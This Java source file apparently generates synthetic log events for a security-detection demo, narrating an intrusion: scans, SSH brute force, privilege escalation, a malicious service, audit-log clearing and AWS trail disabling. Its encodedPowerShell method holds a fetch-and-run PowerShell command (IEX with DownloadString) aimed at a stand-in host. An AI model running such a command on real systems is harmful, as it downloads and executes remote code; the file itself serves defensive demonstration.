package dev.tocsin.launcher.demo;

import com.fasterxml.jackson.databind.node.ObjectNode;
import dev.tocsin.launcher.demo.StoryEvent.Door;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.Random;

/**
 * The attack, from the first scan to the trail switched off, with the noise of an ordinary day
 * around it: a few hundred events of several sources, in the order in which they are sent. The same
 * moment and run give the same story.
 */
public final class Story {
    private static final String[] STAFF = {"alice", "bob", "carol", "dave"};
    private static final String BROWSER = "Mozilla/5.0 (X11; Linux x86_64) Firefox/140.0";

    private final Cast cast;
    private final Chapters write;
    private final Random random;
    private final List<StoryEvent> events = new ArrayList<>();

    private Story(Cast cast) {
        this.cast = cast;
        this.write = new Chapters(cast);
        this.random = new Random(cast.run());
    }

    /**
     * The story of one run.
     *
     * @param now the moment at which it ends
     * @param run distinguishes runs: the attacker's addresses and names depend on it
     */
    public static List<StoryEvent> tell(Instant now, int run) {
        Story story = new Story(new Cast(now, run));
        story.habits();
        story.noise(60);
        story.portScan();
        story.webScan();
        story.noise(40);
        story.guessing();
        story.breakIn();
        story.noise(40);
        story.windows();
        story.cloud();
        return List.copyOf(story.events);
    }

    /** Two days ago: who usually becomes root, and who usually makes access keys. */
    private void habits() {
        for (int hour = 0; hour < 30; hour += 3) {
            Instant at = write.before(Duration.ofHours(48 - hour));
            amqp(write.sudo(at, "bastion-1", STAFF[hour % 2], "/usr/bin/apt update"));
            http(accessKey(at, "deploy"));
        }
    }

    private void noise(int howMany) {
        for (int i = 0; i < howMany; i++) {
            Instant at = write.before(Duration.ofSeconds(600 - i));
            String user = STAFF[random.nextInt(STAFF.length)];
            int number = 1 + random.nextInt(200);
            String from = "192.0.2." + number;
            String vpn = "10.8.0." + number;
            switch (i % 3) {
                case 0 -> http(write.request(at, from, "/products/" + i, 200, BROWSER));
                case 1 ->
                        amqp(
                                write.sshd(
                                        at,
                                        "bastion-1",
                                        "Accepted publickey for %s from %s port %d ssh2: ED25519 SHA256:example"
                                                .formatted(user, vpn, 50_000 + i)));
                default -> http(logon(at, user));
            }
        }
    }

    private void portScan() {
        for (int port = 20; port < 60; port++) {
            Instant at = write.before(Duration.ofMillis(500_000 - port * 200L));
            http(write.refused(at, cast.scanner(), "10.1.1.5", port));
        }
    }

    private void webScan() {
        for (int i = 0; i < 60; i++) {
            Instant at = write.before(Duration.ofMillis(400_000 - i * 300L));
            http(
                    write.request(
                            at,
                            cast.attacker(),
                            "/admin/backup-" + i + ".zip",
                            404,
                            "gobuster/3.6"));
        }
    }

    private void guessing() {
        for (int i = 0; i < 30; i++) {
            Instant at = write.before(Duration.ofMillis(300_000 - i * 700L));
            amqp(
                    write.sshd(
                            at,
                            "bastion-1",
                            "Failed password for invalid user admin%d from %s port %d ssh2"
                                    .formatted(i, cast.attacker(), 40_000 + i)));
        }
        for (int i = 0; i < 8; i++) {
            Instant at = write.before(Duration.ofMillis(250_000 - i * 700L));
            amqp(
                    write.sshd(
                            at,
                            "bastion-1",
                            "Failed password for %s from %s port %d ssh2"
                                    .formatted(cast.intruder(), cast.attacker(), 41_000 + i)));
        }
    }

    private void breakIn() {
        amqp(
                write.sshd(
                        write.before(Duration.ofSeconds(244)),
                        "bastion-1",
                        "Accepted password for %s from %s port 41999 ssh2"
                                .formatted(cast.intruder(), cast.attacker())));
        amqp(
                write.sudo(
                        write.before(Duration.ofSeconds(200)),
                        "bastion-1",
                        cast.intruder(),
                        "/bin/bash"));
    }

    private void windows() {
        http(encodedPowerShell(write.before(Duration.ofSeconds(150))));
        ObjectNode service =
                write.windows(
                        write.before(Duration.ofSeconds(140)),
                        "System",
                        "Service Control Manager",
                        7045);
        service.put("ServiceName", "updsvc" + cast.run());
        service.put("ImagePath", "C:\\Users\\Public\\upd.exe -k");
        service.put("StartType", "auto start");
        service.put("AccountName", "LocalSystem");
        http(service);
        ObjectNode cleared =
                write.windows(
                        write.before(Duration.ofSeconds(130)),
                        "Security",
                        "Microsoft-Windows-Eventlog",
                        1102);
        cleared.put("SubjectUserName", cast.intruder());
        cleared.put("Message", "The audit log was cleared.");
        http(cleared);
    }

    private void cloud() {
        ObjectNode login =
                write.cloudTrail(
                        write.before(Duration.ofSeconds(100)),
                        "signin.amazonaws.com",
                        "ConsoleLogin",
                        "Root",
                        "root");
        login.put("eventType", "AwsConsoleSignIn");
        login.putObject("responseElements").put("ConsoleLogin", "Success");
        login.putObject("additionalEventData").put("MFAUsed", "No");
        http(login);
        http(accessKey(write.before(Duration.ofSeconds(80)), cast.intruder()));
        ObjectNode stop =
                write.cloudTrail(
                        write.before(Duration.ofSeconds(60)),
                        "cloudtrail.amazonaws.com",
                        "StopLogging",
                        "IAMUser",
                        cast.intruder());
        stop.withObject("/requestParameters").put("name", "org-trail");
        http(stop);
    }

    private ObjectNode accessKey(Instant at, String user) {
        ObjectNode key =
                write.cloudTrail(at, "iam.amazonaws.com", "CreateAccessKey", "IAMUser", user);
        key.withObject("/requestParameters").put("userName", user);
        return key;
    }

    private ObjectNode logon(Instant at, String user) {
        ObjectNode logon =
                write.windows(at, "Security", "Microsoft-Windows-Security-Auditing", 4624);
        logon.put("TargetUserName", user);
        logon.put("LogonType", 3);
        logon.put("IpAddress", "10.1.2.3");
        return logon;
    }

    private ObjectNode encodedPowerShell(Instant at) {
        String script = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.9/a')";
        String encoded =
                Base64.getEncoder().encodeToString(script.getBytes(StandardCharsets.UTF_16LE));
        ObjectNode process =
                write.windows(
                        at, "Microsoft-Windows-Sysmon/Operational", "Microsoft-Windows-Sysmon", 1);
        process.put("Image", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe");
        process.put("CommandLine", "powershell.exe -NoProfile -EncodedCommand " + encoded);
        process.put("ParentImage", "C:\\Windows\\System32\\cmd.exe");
        process.put("ParentCommandLine", "cmd.exe /c start");
        process.put("User", "CORP\\" + cast.intruder());
        process.put("ProcessId", "5120");
        return process;
    }

    private void http(ObjectNode body) {
        events.add(new StoryEvent(Door.HTTP, body));
    }

    private void amqp(ObjectNode body) {
        events.add(new StoryEvent(Door.AMQP, body));
    }
}
